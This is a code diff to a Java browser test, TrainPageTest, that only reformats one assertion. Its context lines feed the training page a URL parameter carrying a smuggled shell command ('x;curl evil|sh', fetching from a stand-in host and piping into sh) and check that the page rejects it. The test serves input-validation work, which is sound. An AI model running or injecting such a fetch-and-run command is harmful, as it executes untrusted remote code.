@@ -227,7 +227,8 @@ class TrainPageTest extends ServedSite {
         browser.open(home + "#train?data=x;curl%20evil|sh");
         browser.until("document.querySelector('.train .message')?.textContent"
                 + " === 'data \"x;curl evil|sh\": expected generated, mnist or own'");
-        assertThat(browser.run("return document.querySelector('.proof').hidden")).isEqualTo(true);
+        assertThat(browser.run("return document.querySelector('.proof').hidden"))
+                .isEqualTo(true);
     }
 
     @Test
